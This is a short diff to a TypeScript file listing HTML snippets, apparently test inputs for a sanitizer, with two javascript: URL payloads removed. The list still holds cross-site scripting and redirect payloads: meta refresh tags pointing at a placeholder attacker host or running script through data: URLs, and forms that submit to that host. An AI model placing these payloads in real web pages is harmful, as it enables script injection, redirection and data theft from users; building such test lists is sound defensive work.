@@ -55,7 +55,6 @@ export const styles: string[] = [
 /** Elements that change the page, load into it, send from it or leave it. */
 export const pageWide: string[] = [
   `<meta http-equiv=refresh content="0;url=${EVIL}">`,
-  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
   `<meta http-equiv=refresh content="0;url=data:text/html,<script>${HIT}</script>">`,
   `<meta http-equiv=Set-Cookie content="language=x">`,
   `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
@@ -94,7 +93,6 @@ export const pageWide: string[] = [
   `<img src=/x.png crossorigin=use-credentials referrerpolicy=unsafe-url fetchpriority=high>`,
   `<form action=${EVIL}><input name=q value=x><input type=submit></form>`,
   `<form action=${EVIL} id=f></form><button form=f>x</button>`,
-  `<form><button formaction="javascript:${HIT}">x</button></form>`,
   `<button type=button popovertarget=p>x</button><div popover id=p>x</div>`,
   `<button commandfor=d command=show-modal>x</button><dialog id=d>x</dialog>`,
   `<input type=password autocomplete=current-password name=password>`,
